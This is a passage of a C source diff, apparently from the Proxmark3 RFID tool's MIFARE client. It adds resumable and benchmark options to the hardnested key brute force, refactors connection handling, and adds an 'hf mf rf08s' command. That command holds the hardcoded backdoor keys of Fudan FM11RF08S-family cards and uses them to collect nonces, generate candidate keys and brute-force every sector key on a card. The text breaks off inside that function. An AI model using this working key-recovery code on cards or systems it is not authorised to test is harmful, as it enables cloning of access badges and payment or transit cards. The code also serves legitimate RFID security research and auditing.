@@ -46,6 +46,7 @@
 #include "generator.h"              // keygens.
 #include "fpga.h"
 #include "mifare/mifarehost.h"
+#include "mifare/fm11rf08s_recovery.h"
 #include "crypto/originality.h"
 
 static int CmdHelp(const char *Cmd);
@@ -1947,7 +1948,7 @@ jumptoend:
         // transfer them to the emulator
         if (transferToEml) {
             // fast push mode
-            g_conn.block_after_ACK = true;
+            GetCommunicationConn()->block_after_ACK = true;
             for (int i = 0; i < SectorsCnt; i++) {
                 mf_eml_get_mem(keyBlock, mfFirstBlockOfSector(i) + mfNumBlocksPerSector(i) - 1, 1);
 
@@ -1959,7 +1960,7 @@ jumptoend:
 
                 if (i == SectorsCnt - 1) {
                     // Disable fast mode on last packet
-                    g_conn.block_after_ACK = false;
+                    GetCommunicationConn()->block_after_ACK = false;
                 }
                 mf_elm_set_mem(keyBlock, mfFirstBlockOfSector(i) + mfNumBlocksPerSector(i) - 1, 1);
             }
@@ -2200,7 +2201,7 @@ jumptoend:
     // transfer them to the emulator
     if (transferToEml) {
         // fast push mode
-        g_conn.block_after_ACK = true;
+        GetCommunicationConn()->block_after_ACK = true;
         for (int i = 0; i < SectorsCnt; i++) {
             mf_eml_get_mem(keyBlock, mfFirstBlockOfSector(i) + mfNumBlocksPerSector(i) - 1, 1);
 
@@ -2212,7 +2213,7 @@ jumptoend:
 
             if (i == SectorsCnt - 1) {
                 // Disable fast mode on last packet
-                g_conn.block_after_ACK = false;
+                GetCommunicationConn()->block_after_ACK = false;
             }
             mf_elm_set_mem(keyBlock, mfFirstBlockOfSector(i) + mfNumBlocksPerSector(i) - 1, 1);
         }
@@ -2254,7 +2255,9 @@ static int CmdHF14AMfNestedHard(const char *Cmd) {
                   "hf mf hardnested --blk 0 -a -k FFFFFFFFFFFF --tblk 4 --ta -f nonces.bin -w -s\n"
                   "hf mf hardnested -r\n"
                   "hf mf hardnested -r --tk a0a1a2a3a4a5\n"
+                  "hf mf hardnested -r -f nonces.bin --wdir /mnt/shared/hn   --> resumable brute force, shareable between hosts\n"
                   "hf mf hardnested -t --tk a0a1a2a3a4a5\n"
+                  "hf mf hardnested --bench                  --> compare brute force speed of all SIMD cores\n"
                   "hf mf hardnested --blk 0 -a -k a0a1a2a3a4a5 --tblk 4 --ta --tk FFFFFFFFFFFF\n"
                  );
 
@@ -2274,6 +2277,8 @@ static int CmdHF14AMfNestedHard(const char *Cmd) {
         arg_lit0("s",  "slow",           "Slower acquisition (required by some non standard cards)"),
         arg_lit0("t",  "tests",          "Run tests"),
         arg_lit0("w",  "wr",             "Acquire nonces and UID, and write them to file `hf-mf-<UID>-nonces.bin`"),
+        arg_str0(NULL, "wdir",  "<dir>", "Checkpoint brute force work units in existing <dir>, resume or share them with other processes"),
+        arg_lit0(NULL, "bench",          "Benchmark brute force speed of each supported SIMD core and quit"),
 
         arg_lit0(NULL, "in", "None (use CPU regular instruction set)"),
 #if defined(COMPILER_HAS_SIMD_X86)
@@ -2335,21 +2340,35 @@ static int CmdHF14AMfNestedHard(const char *Cmd) {
     bool tests = arg_get_lit(ctx, 13);
     bool nonce_file_write = arg_get_lit(ctx, 14);
 
-    bool in = arg_get_lit(ctx, 15);
+    int wdirlen = 0;
+    char wdir[FILE_PATH_SIZE] = {0};
+    CLIParamStrToBuf(arg_get_str(ctx, 15), (uint8_t *)wdir, FILE_PATH_SIZE, &wdirlen);
+
+    bool bench = arg_get_lit(ctx, 16);
+
+    bool in = arg_get_lit(ctx, 17);
 #if defined(COMPILER_HAS_SIMD_X86)
-    bool im = arg_get_lit(ctx, 16);
-    bool is = arg_get_lit(ctx, 17);
-    bool ia = arg_get_lit(ctx, 18);
-    bool i2 = arg_get_lit(ctx, 19);
+    bool im = arg_get_lit(ctx, 18);
+    bool is = arg_get_lit(ctx, 19);
+    bool ia = arg_get_lit(ctx, 20);
+    bool i2 = arg_get_lit(ctx, 21);
 #endif
 #if defined(COMPILER_HAS_SIMD_AVX512)
-    bool i5 = arg_get_lit(ctx, 20);
+    bool i5 = arg_get_lit(ctx, 22);
 #endif
 #if defined(COMPILER_HAS_SIMD_NEON)
-    bool ie = arg_get_lit(ctx, 16);
+    bool ie = arg_get_lit(ctx, 18);
 #endif
     CLIParserFree(ctx);
 
+    if (bench) {
+        int res = mfnestedhard_bench();
+        if (res != PM3_SUCCESS) {
+            PrintAndLogEx(WARNING, "Can't find benchmark data " _YELLOW_(TEST_BENCH_FILENAME));
+        }
+        return res;
+    }
+
     // set SIM instructions
     SetSIMDInstr(SIMD_AUTO);
 
@@ -2380,6 +2399,11 @@ static int CmdHF14AMfNestedHard(const char *Cmd) {
 
     bool known_target_key = (trg_keylen);
 
+    if (wdirlen && fileExists(wdir) == false) {
+        PrintAndLogEx(WARNING, "Work directory " _YELLOW_("%s") " doesn't exist", wdir);
+        return PM3_EINVARG;
+    }
+
     if (nonce_file_read) {
         char *fptr = GenerateFilename("hf-mf-", "-nonces.bin");
         if (fptr == NULL)
@@ -2443,8 +2467,14 @@ static int CmdHF14AMfNestedHard(const char *Cmd) {
                   slow ? "Yes" : "No",
                   tests);
 
+    if (wdirlen) {
+        PrintAndLogEx(INFO, "Work directory: " _YELLOW_("%s"), wdir);
+    }
+
     uint64_t foundkey = 0;
+    set_bf_work_dir(wdirlen ? wdir : NULL);
     int16_t isOK = mfnestedhard(blockno, keytype, key, trg_blockno, trg_keytype, known_target_key ? trg_key : NULL, nonce_file_read, nonce_file_write, slow, tests, &foundkey, filename);
+    set_bf_work_dir(NULL);
     switch (isOK) {
         case PM3_ETIMEOUT :
             PrintAndLogEx(ERR, "Error: No response from Proxmark3\n");
@@ -3498,7 +3528,7 @@ out:
 
         if (transferToEml) {
             // fast push mode
-            g_conn.block_after_ACK = true;
+            GetCommunicationConn()->block_after_ACK = true;
             uint8_t block[MFBLOCK_SIZE] = {0x00};
             for (i = 0; i < sectorsCnt; ++i) {
                 uint8_t b = mfFirstBlockOfSector(i) + mfNumBlocksPerSector(i) - 1;
@@ -3512,7 +3542,7 @@ out:
 
                 if (i == sectorsCnt - 1) {
                     // Disable fast mode on last packet
-                    g_conn.block_after_ACK = false;
+                    GetCommunicationConn()->block_after_ACK = false;
                 }
                 mf_elm_set_mem(block, b, 1);
             }
@@ -3712,7 +3742,7 @@ out:
 
         if (transferToEml) {
             // fast push mode
-            g_conn.block_after_ACK = true;
+            GetCommunicationConn()->block_after_ACK = true;
             uint8_t block[MFBLOCK_SIZE] = {0x00};
             for (i = 0; i < sectorsCnt; ++i) {
                 uint8_t b = mfFirstBlockOfSector(i) + mfNumBlocksPerSector(i) - 1;
@@ -3726,7 +3756,7 @@ out:
 
                 if (i == sectorsCnt - 1) {
                     // Disable fast mode on last packet
-                    g_conn.block_after_ACK = false;
+                    GetCommunicationConn()->block_after_ACK = false;
                 }
                 mf_elm_set_mem(block, b, 1);
             }
@@ -3893,7 +3923,7 @@ static int CmdHF14AMfChk(const char *Cmd) {
     PrintAndLogEx(INFO, "." NOLF);
 
     // fast push mode
-    g_conn.block_after_ACK = true;
+    GetCommunicationConn()->block_after_ACK = true;
 
     // clear trace log by first check keys call only
     bool clearLog = true;
@@ -3996,7 +4026,7 @@ out:
 
     if (transferToEml) {
         // fast push mode
-        g_conn.block_after_ACK = true;
+        GetCommunicationConn()->block_after_ACK = true;
         uint8_t block[MFBLOCK_SIZE] = {0x00};
         for (int i = 0; i < sectors_cnt; ++i) {
             uint8_t blockno = mfFirstBlockOfSector(i) + mfNumBlocksPerSector(i) - 1;
@@ -4010,7 +4040,7 @@ out:
 
             if (i == sectors_cnt - 1) {
                 // Disable fast mode on last packet
-                g_conn.block_after_ACK = false;
+                GetCommunicationConn()->block_after_ACK = false;
             }
             mf_elm_set_mem(block, blockno, 1);
         }
@@ -4029,7 +4059,7 @@ out:
     free(e_sector);
 
     // Disable fast mode and send a dummy command to make it effective
-    g_conn.block_after_ACK = false;
+    GetCommunicationConn()->block_after_ACK = false;
     SendCommandNG(CMD_PING, NULL, 0);
     if (!WaitForResponseTimeout(CMD_PING, NULL, 1000)) {
         PrintAndLogEx(WARNING, "command execution time out");
@@ -4757,7 +4787,7 @@ int CmdHF14AMfELoad(const char *Cmd) {
     PrintAndLogEx(INFO, "." NOLF);
 
     // fast push mode
-    g_conn.block_after_ACK = true;
+    GetCommunicationConn()->block_after_ACK = true;
 
     size_t offset = 0;
     int cnt = 0;
@@ -4768,7 +4798,7 @@ int CmdHF14AMfELoad(const char *Cmd) {
     while (bytes_read && cnt < block_cnt) {
         if (bytes_read == block_width) {
             // Disable fast mode on last packet
-            g_conn.block_after_ACK = false;
+            GetCommunicationConn()->block_after_ACK = false;
         }
 
         uint16_t chunk_size = MIN(max_avail_blocks, bytes_read);
@@ -5764,11 +5794,11 @@ static int CmdHF14AMfCSave(const char *Cmd) {
         PrintAndLogEx(INFO, "uploading to emulator memory");
         PrintAndLogEx(INFO, "." NOLF);
         // fast push mode
-        g_conn.block_after_ACK = true;
+        GetCommunicationConn()->block_after_ACK = true;
         for (int i = 0; i < block_cnt; i += 5) {
             if (i == block_cnt - 1) {
                 // Disable fast mode on last packet
-                g_conn.block_after_ACK = false;
+                GetCommunicationConn()->block_after_ACK = false;
             }
             if (mf_elm_set_mem(dump + (i * MFBLOCK_SIZE), i, 5) != PM3_SUCCESS) {
                 PrintAndLogEx(WARNING, "Can't set emul block: " _YELLOW_("%d"), i);
@@ -8743,7 +8773,7 @@ static int CmdHF14AGen4Save(const char *Cmd) {
         PrintAndLogEx(INFO, "uploading to emulator memory");
         PrintAndLogEx(INFO, "." NOLF);
         // fast push mode
-        g_conn.block_after_ACK = true;
+        GetCommunicationConn()->block_after_ACK = true;
 
         size_t offset = 0;
         int cnt = 0;
@@ -8755,7 +8785,7 @@ static int CmdHF14AGen4Save(const char *Cmd) {
         while (bytes_left > 0 && cnt < block_cnt) {
             if (bytes_left == MFBLOCK_SIZE) {
                 // Disable fast mode on last packet
-                g_conn.block_after_ACK = false;
+                GetCommunicationConn()->block_after_ACK = false;
             }
 
             uint16_t chunk_size = MIN(max_avail_blocks, bytes_left);
@@ -9891,6 +9921,60 @@ static int CmdHF14AMfInfo(const char *Cmd) {
     return PM3_SUCCESS;
 }
 
+// Collects nT / {nT} / parity errors of all sectors through the FM11RF08S backdoor.
+// flags: bit0 also fetch the data blocks, bit1 without backdoor (blockn / keytype / key used for first auth)
+static int mf_fm11rf08s_collect_nonces(uint32_t flags, uint8_t blockn, uint8_t keytype, uint8_t *key, iso14a_fm11rf08s_nonces_with_data_t *nonces_dump) {
+    PacketResponseNG resp;
+    clearCommandBuffer();
+    SendCommandMIX(CMD_HF_MIFARE_ACQ_STATIC_ENCRYPTED_NONCES, flags, blockn, keytype, key, MIFARE_KEY_SIZE);
+    if (WaitForResponseTimeout(CMD_ACK, &resp, 2500)) {
+        if (resp.oldarg[0] != PM3_SUCCESS) {
+            return NONCE_FAIL;
+        }
+    } else {
+        PrintAndLogEx(WARNING, "Fail, transfer from device time-out");
+        return PM3_ETIMEOUT;
+    }
+    uint8_t num_sectors = MIFARE_1K_MAXSECTOR + 1;
+    for (uint8_t sec = 0; sec < num_sectors; sec++) {
+        // reconstruct full nt
+        uint32_t nt;
+        nt = bytes_to_num(resp.data.asBytes + ((sec * 2) * 8), 2);
+        nt = nt << 16 | prng_successor(nt, 16);
+        num_to_bytes(nt, 4, nonces_dump->nt[sec][0]);
+        nt = bytes_to_num(resp.data.asBytes + (((sec * 2) + 1) * 8), 2);
+        nt = nt << 16 | prng_successor(nt, 16);
+        num_to_bytes(nt, 4, nonces_dump->nt[sec][1]);
+    }
+    for (uint8_t sec = 0; sec < num_sectors; sec++) {
+        memcpy(nonces_dump->nt_enc[sec][0], resp.data.asBytes + ((sec * 2) * 8) + 4, 4);
+        memcpy(nonces_dump->nt_enc[sec][1], resp.data.asBytes + (((sec * 2) + 1) * 8) + 4, 4);
+    }
+    for (uint8_t sec = 0; sec < num_sectors; sec++) {
+        nonces_dump->par_err[sec][0] = resp.data.asBytes[((sec * 2) * 8) + 2];
+        nonces_dump->par_err[sec][1] = resp.data.asBytes[(((sec * 2) + 1) * 8) + 2];
+    }
+    if (flags & 1) {
+        int bytes = MIFARE_1K_MAXBLOCK * MFBLOCK_SIZE;
+
+        uint8_t *dump = calloc(bytes, sizeof(uint8_t));
+        if (dump == NULL) {
+            PrintAndLogEx(WARNING, "Fail, cannot allocate memory");
+            return PM3_EFAILED;
+        }
+        if (!GetFromDevice(BIG_BUF_EML, dump, bytes, 0, NULL, 0, NULL, 2500, false)) {
+            PrintAndLogEx(WARNING, "Fail, transfer from device time-out");
+            free(dump);
+            return PM3_ETIMEOUT;
+        }
+        for (uint8_t blk = 0; blk < MIFARE_1K_MAXBLOCK; blk++) {
+            memcpy(nonces_dump->blocks[blk], dump + blk * MFBLOCK_SIZE, MFBLOCK_SIZE);
+        }
+        free(dump);
+    }
+    return PM3_SUCCESS;
+}
+
 static int CmdHF14AMfISEN(const char *Cmd) {
     CLIParserContext *ctx;
     CLIParserInit(&ctx, "hf mf isen",
@@ -10059,52 +10143,10 @@ static int CmdHF14AMfISEN(const char *Cmd) {
     if (collect_fm11rf08s) {
         uint64_t t1 = msclock();
         uint32_t flags = collect_fm11rf08s_with_data | (collect_fm11rf08s_without_backdoor << 1);
-        SendCommandMIX(CMD_HF_MIFARE_ACQ_STATIC_ENCRYPTED_NONCES, flags, blockn, keytype, key, sizeof(key));
-        if (WaitForResponseTimeout(CMD_ACK, &resp, 2500)) {
-            if (resp.oldarg[0] != PM3_SUCCESS) {
-                return NONCE_FAIL;
-            }
-        } else {
-            PrintAndLogEx(WARNING, "Fail, transfer from device time-out");
-            return PM3_ETIMEOUT;
-        }
-        uint8_t num_sectors = MIFARE_1K_MAXSECTOR + 1;
         iso14a_fm11rf08s_nonces_with_data_t nonces_dump = {0};
-        for (uint8_t sec = 0; sec < num_sectors; sec++) {
-            // reconstruct full nt
-            uint32_t nt;
-            nt = bytes_to_num(resp.data.asBytes + ((sec * 2) * 8), 2);
-            nt = nt << 16 | prng_successor(nt, 16);
-            num_to_bytes(nt, 4, nonces_dump.nt[sec][0]);
-            nt = bytes_to_num(resp.data.asBytes + (((sec * 2) + 1) * 8), 2);
-            nt = nt << 16 | prng_successor(nt, 16);
-            num_to_bytes(nt, 4, nonces_dump.nt[sec][1]);
-        }
-        for (uint8_t sec = 0; sec < num_sectors; sec++) {
-            memcpy(nonces_dump.nt_enc[sec][0], resp.data.asBytes + ((sec * 2) * 8) + 4, 4);
-            memcpy(nonces_dump.nt_enc[sec][1], resp.data.asBytes + (((sec * 2) + 1) * 8) + 4, 4);
-        }
-        for (uint8_t sec = 0; sec < num_sectors; sec++) {
-            nonces_dump.par_err[sec][0] = resp.data.asBytes[((sec * 2) * 8) + 2];
-            nonces_dump.par_err[sec][1] = resp.data.asBytes[(((sec * 2) + 1) * 8) + 2];
-        }
-        if (collect_fm11rf08s_with_data) {
-            int bytes = MIFARE_1K_MAXBLOCK * MFBLOCK_SIZE;
-
-            uint8_t *dump = calloc(bytes, sizeof(uint8_t));
-            if (dump == NULL) {
-                PrintAndLogEx(WARNING, "Fail, cannot allocate memory");
-                return PM3_EFAILED;
-            }
-            if (!GetFromDevice(BIG_BUF_EML, dump, bytes, 0, NULL, 0, NULL, 2500, false)) {
-                PrintAndLogEx(WARNING, "Fail, transfer from device time-out");
-                free(dump);
-                return PM3_ETIMEOUT;
-            }
-            for (uint8_t blk = 0; blk < MIFARE_1K_MAXBLOCK; blk++) {
-                memcpy(nonces_dump.blocks[blk], dump + blk * MFBLOCK_SIZE, MFBLOCK_SIZE);
-            }
-            free(dump);
+        int res = mf_fm11rf08s_collect_nonces(flags, blockn, keytype, key, &nonces_dump);
+        if (res != PM3_SUCCESS) {
+            return res;
         }
         t1 = msclock() - t1;
         PrintAndLogEx(SUCCESS, "time: " _YELLOW_("%" PRIu64) " ms", t1);
@@ -10145,6 +10187,389 @@ static int CmdHF14AMfISEN(const char *Cmd) {
     return PM3_SUCCESS;
 }
 
+// a keyboard abort or a device that stopped answering ends the whole recovery
+static bool rf08s_check_stop(int check_res, int *res) {
+    if (check_res == PM3_EOPABORTED || check_res == PM3_ETIMEOUT) {
+        *res = check_res;
+        return true;
+    }
+    return false;
+}
+
+// check one candidate list on the card, the key of the other type is set as well when both nonces are equal
+static int rf08s_check_list(sector_t *e_sector, const iso14a_fm11rf08s_nonces_with_data_t *nonces, uint8_t sec, uint8_t kt, const rf08s_keylist_t *list) {
+    if (list->keys == NULL || list->cnt == 0) {
+        return PM3_ESOFT;
+    }
+
+    uint8_t real_sec = rf08s_real_sector(sec);
+    uint32_t chunksize = PM3_CMD_DATA_SIZE / MIFARE_KEY_SIZE;
+    uint8_t *keyBlock = calloc(chunksize, MIFARE_KEY_SIZE);
+    if (keyBlock == NULL) {
+        return PM3_EMALLOC;
+    }
+
+    // single sector mode of the fast check, the device stops at the first valid key
+    sector_t found[RF08S_EXTRA_SECTOR + 1];
+    memset(found, 0, sizeof(found));
+    uint16_t singleSectorParams = (real_sec * 4) | kt << 8 | 1 << 15;
+    int res = PM3_ESOFT;
+
+    for (uint32_t i = 0; i < list->cnt; i += chunksize) {
+
+        if (kbd_enter_pressed()) {
+            // field is still ON if not on last chunk
+            clearCommandBuffer();
+            SendCommandNG(CMD_FPGA_MAJOR_MODE_OFF, NULL, 0);
+            res = PM3_EOPABORTED;
+            break;
+        }
+
+        uint32_t size = ((list->cnt - i) > chunksize) ? chunksize : list->cnt - i;
+        for (uint32_t j = 0; j < size; j++) {
+            num_to_bytes(list->keys[i + j], MIFARE_KEY_SIZE, keyBlock + (j * MIFARE_KEY_SIZE));
+        }
+
+        res = mf_check_keys_fast_ex(ARRAYLEN(found), (i == 0), (size == list->cnt - i), 1, size, keyBlock, found, false, false, true, singleSectorParams);
+        if (res == PM3_SUCCESS || res == PM3_ETIMEOUT) {
+            break;
+        }
+    }
+    free(keyBlock);
+
+    if (res != PM3_SUCCESS) {
+        return res;
+    }
+
+    // the fast check already printed the key
+    uint64_t key = found[real_sec].Key[kt];
+    e_sector[sec].Key[kt] = key;
+    e_sector[sec].foundKey[kt] = 'C';
+
+    if (rf08s_nt(nonces, sec, 0) == rf08s_nt(nonces, sec, 1) && e_sector[sec].foundKey[kt ^ 1] == 0) {
+        e_sector[sec].Key[kt ^ 1] = key;
+        e_sector[sec].foundKey[kt ^ 1] = 'C';
+        PrintAndLogEx(SUCCESS, "Sector %3u key %c... " _GREEN_("%012" PRIX64), real_sec, kt ? 'A' : 'B', key);
+    }
+    return PM3_SUCCESS;
+}
+
+// offline check of the candidate generation with the nonces of the staticnested tools tests
+static int rf08s_selftest(void) {
+
+    PrintAndLogEx(INFO, "======== " _CYAN_("self test") " ===========================================");
+
+    iso14a_fm11rf08s_nonces_with_data_t *nonces = calloc(1, sizeof(iso14a_fm11rf08s_nonces_with_data_t));
+    sector_t *known = calloc(RF08S_NUM_SECTORS, sizeof(sector_t));
+    if (nonces == NULL || known == NULL) {
+        free(nonces);
+        free(known);
+        return PM3_EMALLOC;
+    }
+
+    // uid 5C467F63, sector 0, keyA FFFFFFFFFFF1 keyB FFFFFFFFFFF2
+    num_to_bytes(0x456ACE4E, 4, nonces->nt[0][0]);
+    num_to_bytes(0xDA53428D, 4, nonces->nt_enc[0][0]);
+    nonces->par_err[0][0] = 0x9;
+    num_to_bytes(0xE56F9FA2, 4, nonces->nt[0][1]);
+    num_to_bytes(0x7A9616B6, 4, nonces->nt_enc[0][1]);
+    nonces->par_err[0][1] = 0xE;
+    for (uint8_t sec = 1; sec < RF08S_NUM_SECTORS; sec++) {
+        known[sec].foundKey[0] = 1;
+        known[sec].foundKey[1] = 1;
+    }
+
+    rf08s_candidates_t cands[RF08S_NUM_SECTORS][2];
+    int res = rf08s_generate_candidates(0x5C467F63, nonces, known, NULL, 0, cands);
+    free(known);
+    free(nonces);
+    if (res != PM3_SUCCESS) {
+        return res;
+    }
+
+    const uint64_t expected[2] = {0xFFFFFFFFFFF1, 0xFFFFFFFFFFF2};
+    bool ok = true;
+    for (uint8_t kt = 0; kt < 2; kt++) {
+        bool found = false;
+        for (uint32_t i = 0; i < cands[0][kt].filtered.cnt; i++) {
+            if (cands[0][kt].filtered.keys[i] == expected[kt]) {
+                found = true;
+                break;
+            }
+        }
+        ok &= found;
+        PrintAndLogEx(INFO, "Sector   0 key %c... %u keys, %u after join, %012" PRIX64 " ( %s )"
+                      , kt ? 'B' : 'A'
+                      , cands[0][kt].all.cnt
+                      , cands[0][kt].filtered.cnt
+                      , expected[kt]
+                      , found ? _GREEN_("ok") : _RED_("fail")
+                     );
+    }
+
+    // keyB from keyA alone
+    rf08s_keylist_t keysB = {NULL, 0};
+    res = rf08s_filter_1key(0x456ACE4E, expected[0], 0xE56F9FA2, &cands[0][1].all, &keysB);
+    bool found = false;
+    for (uint32_t i = 0; i < keysB.cnt; i++) {
+        found |= (keysB.keys[i] == expected[1]);
+    }
+    ok &= found;
+    PrintAndLogEx(INFO, "Sector   0 key B... %u keys matching key A, %012" PRIX64 " ( %s )"
+                  , keysB.cnt
+                  , expected[1]
+                  , found ? _GREEN_("ok") : _RED_("fail")
+                 );
+    free(keysB.keys);
+    rf08s_free_candidates(cands);
+
+    if (res != PM3_SUCCESS) {
+        return res;
+    }
+    PrintAndLogEx(NORMAL, "");
+    PrintAndLogEx(SUCCESS, "Self test ( %s )", ok ? _GREEN_("ok") : _RED_("fail"));
+    return ok ? PM3_SUCCESS : PM3_ESOFT;
+}
+
+static int CmdHF14AMfRecoverRF08S(const char *Cmd) {
+    CLIParserContext *ctx;
+    CLIParserInit(&ctx, "hf mf rf08s",
+                  "Recover all keys of a Fudan FM11RF08S card through its backdoor.\n"
+                  "Static encrypted nonces of all sectors are collected, key candidates are generated\n"
+                  "for all sectors in parallel and checked on the card, starting with the most likely ones.\n"
+                  "Native version of `script run fm11rf08s_recovery`",
+                  "hf mf rf08s\n"
+                  "hf mf rf08s -k A396EFA4E24F\n"
+                  "hf mf rf08s --test");
+
+    void *argtable[] = {
+        arg_param_begin,
+        arg_str0("k", "key", "<hex>", "backdoor key, 6 hex bytes (def: try known backdoor keys)"),
+        arg_lit0(NULL, "ns", "No save to file"),
+        arg_lit0("v", "verbose", "verbose output"),
+        arg_lit0(NULL, "test", "self test"),
+        arg_param_end
+    };
+    CLIExecWithReturn(ctx, Cmd, argtable, true);
+
+    int keylen = 0;
+    uint8_t userkey[MIFARE_KEY_SIZE] = {0};
+    CLIGetHexWithReturn(ctx, 1, userkey, &keylen);
+    bool no_save = arg_get_lit(ctx, 2);
+    bool verbose = arg_get_lit(ctx, 3);
+    bool selftest = arg_get_lit(ctx, 4);
+    CLIParserFree(ctx);
+
+    if (selftest) {
+        return rf08s_selftest();
+    }
+
+    if (IfPm3Iso14443a() == false) {
+        PrintAndLogEx(WARNING, "Offline, only " _YELLOW_("--test") " is available");
+        return PM3_ENOTTY;
+    }
+
+    if (keylen != 0 && keylen != MIFARE_KEY_SIZE) {
+        PrintAndLogEx(ERR, "Key length must be %u bytes", MIFARE_KEY_SIZE);
+        return PM3_EINVARG;
+    }
+
+    uint8_t uid[10] = {0};
+    int uidlen = 0;
+    if (mf_read_uid(uid, &uidlen, NULL) != PM3_SUCCESS || uidlen < 4) {
+        PrintAndLogEx(WARNING, "No tag found.");
+        return PM3_ESOFT;
+    }
+    // crypto1 uses the last four bytes of the UID
+    uint32_t cuid = bytes_to_num(uid + uidlen - 4, 4);
+
+    uint64_t t1 = msclock();
+
+    uint8_t k08s[6] = {0xA3, 0x96, 0xEF, 0xA4, 0xE2, 0x4F};
+    uint8_t k08[6] = {0xA3, 0x16, 0x67, 0xA8, 0xCE, 0xC1};
+    uint8_t k32[6] = {0x51, 0x8B, 0x33, 0x54, 0xE7, 0x60};
+    uint8_t *bdkeys[] = {k08s, k08, k32};
+    size_t bdcnt = ARRAYLEN(bdkeys);
+    if (keylen) {
+        bdkeys[0] = userkey;
+        bdcnt = 1;
+    }
+
+    iso14a_fm11rf08s_nonces_with_data_t *nonces = calloc(1, sizeof(iso14a_fm11rf08s_nonces_with_data_t));
+    if (nonces == NULL) {
+        PrintAndLogEx(WARNING, "Fail, cannot allocate memory");
+        return PM3_EMALLOC;
+    }
+
+    PrintAndLogEx(INFO, "Getting nonces...");
+    int res = NONCE_FAIL;
+    for (size_t i = 0; i < bdcnt; i++) {
+        res = mf_fm11rf08s_collect_nonces(1, 0, MF_KEY_A, bdkeys[i], nonces);
+        if (res == PM3_SUCCESS) {
+            PrintAndLogEx(SUCCESS, "Backdoor key..... " _YELLOW_("%s"), sprint_hex_inrow(bdkeys[i], MIFARE_KEY_SIZE));
+            break;
+        }
+        if (res == PM3_ETIMEOUT) {
+            break;
+        }
+    }
+    if (res != PM3_SUCCESS) {
+        PrintAndLogEx(FAILED, "Error getting nonces, is it a FM11RF08S card?");
+        free(nonces);
+        return PM3_ESOFT;
+    }
+
+    sector_t *e_sector = NULL;
+    if (initSectorTable(&e_sector, RF08S_NUM_SECTORS) != PM3_SUCCESS) {
+        free(nonces);
+        return PM3_EMALLOC;
+    }
+
+    // default keys from the firmware list and the default dictionary go first
+    uint32_t defcnt = 0;
+    uint8_t *defdic = NULL;
+    if (loadFileDICTIONARY_safe_ex("mfc_default_keys", ".dic", (void **)&defdic, MIFARE_KEY_SIZE, &defcnt, false) != PM3_SUCCESS) {
+        PrintAndLogEx(WARNING, "Dictionary " _YELLOW_("mfc_default_keys.dic") " not found, using built-in default keys only");
+        defcnt = 0;
+    }
+    uint64_t *defkeys = calloc(defcnt + ARRAYLEN(g_mifare_default_keys), sizeof(uint64_t));
+    if (defkeys == NULL) {
+        free(defdic);
+        free(e_sector);
+        free(nonces);
+        return PM3_EMALLOC;
+    }
+    for (uint32_t i = 0; i < ARRAYLEN(g_mifare_default_keys); i++) {
+        defkeys[i] = g_mifare_default_keys[i];
+    }
+    for (uint32_t i = 0; i < defcnt; i++) {
+        defkeys[ARRAYLEN(g_mifare_default_keys) + i] = bytes_to_num(defdic + (i * MIFARE_KEY_SIZE), MIFARE_KEY_SIZE);
+    }
+    defcnt += ARRAYLEN(g_mifare_default_keys);
+    free(defdic);
+
+    PrintAndLogEx(INFO, "Generating key candidates of " _YELLOW_("%u") " sectors using " _YELLOW_("%d") " threads...", RF08S_NUM_SECTORS, rf08s_thread_count());
+    uint64_t t2 = msclock();
+    rf08s_candidates_t cands[RF08S_NUM_SECTORS][2];
+    res = rf08s_generate_candidates(cuid, nonces, e_sector, defkeys, defcnt, cands);
+    free(defkeys);
+    if (res != PM3_SUCCESS) {
+        PrintAndLogEx(FAILED, "Fail, cannot allocate memory");
+        free(e_sector);
+        free(nonces);
+        return res;
+    }
+    t2 = msclock() - t2;
+
+    uint32_t total = 0;
+    for (uint8_t sec = 0; sec < RF08S_NUM_SECTORS; sec++) {
+        rf08s_candidates_t *c = cands[sec];
+        bool same_nt = (rf08s_nt(nonces, sec, 0) == rf08s_nt(nonces, sec, 1));
+        uint32_t cnt_a = (c[0].dups.cnt) ? c[0].dups.cnt : (c[0].filtered.keys) ? c[0].filtered.cnt : c[0].all.cnt;
+        uint32_t cnt_b = (same_nt) ? 0 : (c[1].dups.cnt) ? c[1].dups.cnt : c[1].filtered.cnt;
+        total += cnt_a + cnt_b;
+        if (verbose) {
+            PrintAndLogEx(INFO, " %03u | %03u | %6u | %6u %s", rf08s_real_sector(sec), rf08s_real_sector(sec) * 4 + 3, cnt_a, cnt_b, (same_nt) ? "( keyA == keyB )" : "");
+        }
+    }
+    PrintAndLogEx(SUCCESS, "Candidates generated in " _YELLOW_("%.1fs") ", " _YELLOW_("%u") " keys to check at most", (float)t2 / 1000.0, total);
+
+    PrintAndLogEx(INFO, "Brute-forcing keys... press " _GREEN_("<Enter>") " to abort");
+    bool abort = false;
+    for (uint8_t sec = 0; sec < RF08S_NUM_SECTORS && abort == false; sec++) {
+        rf08s_candidates_t *c = cands[sec];
+        bool same_nt = (rf08s_nt(nonces, sec, 0) == rf08s_nt(nonces, sec, 1));
+
+        // keys shared with other sectors first, then the seed join results
+        for (uint8_t kt = 0; kt < 2 && abort == false; kt++) {
+            if (e_sector[sec].foundKey[0] == 0 && e_sector[sec].foundKey[1] == 0) {
+                abort = rf08s_check_stop(rf08s_check_list(e_sector, nonces, sec, kt, &c[kt].dups), &res);
+            }
+        }
+        for (uint8_t kt = 0; kt < 2 && abort == false; kt++) {
+            if (e_sector[sec].foundKey[0] == 0 && e_sector[sec].foundKey[1] == 0) {
+                abort = rf08s_check_stop(rf08s_check_list(e_sector, nonces, sec, kt, &c[kt].filtered), &res);
+            }
+        }
+        // keyA == keyB, one list for both
+        if (abort == false && same_nt && e_sector[sec].foundKey[0] == 0 && e_sector[sec].foundKey[1] == 0) {
+            abort = rf08s_check_stop(rf08s_check_list(e_sector, nonces, sec, MF_KEY_A, &c[0].all), &res);
+        }
+        if (abort) {
+            break;
+        }
+
+        // one key known, the other one shares its nonce seed
+        if (same_nt == false && ((e_sector[sec].foundKey[0] == 0) ^ (e_sector[sec].foundKey[1] == 0))) {
+            uint8_t src = (e_sector[sec].foundKey[0]) ? 0 : 1;
+            uint8_t dst = src ^ 1;
+            const rf08s_keylist_t *in = (c[dst].dups.cnt) ? &c[dst].dups : (c[dst].filtered.keys) ? &c[dst].filtered : &c[dst].all;
+            rf08s_keylist_t out = {0};
+            if (rf08s_filter_1key(rf08s_nt(nonces, sec, src), e_sector[sec].Key[src], rf08s_nt(nonces, sec, dst), in, &out) == PM3_SUCCESS) {
+                if (out.cnt == 1) {
+                    e_sector[sec].Key[dst] = out.keys[0];
+                    e_sector[sec].foundKey[dst] = 'C';
